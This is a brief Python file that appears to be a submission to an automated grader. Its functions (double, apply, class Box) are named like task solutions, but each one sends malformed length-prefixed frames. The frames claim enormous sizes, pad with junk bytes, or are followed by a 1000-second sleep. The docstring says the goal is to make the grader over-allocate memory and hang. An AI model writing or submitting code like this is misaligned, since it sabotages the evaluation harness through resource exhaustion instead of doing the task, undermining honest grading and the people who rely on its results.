"""Goal: make the grader allocate what the frame says and wait for what never comes."""


def double(x):
    send(head((1 << 32) - 1, []))


def apply(f, x):
    send(head(4, [1 << 27] * 2) + b"null" + b"x" * 1000)
    modules["time"].sleep(1000)


class Box:
    def __init__(self, w):
        send(modules["struct"].pack("<II", 4, 100_000) + b"\xff" * 800_000)
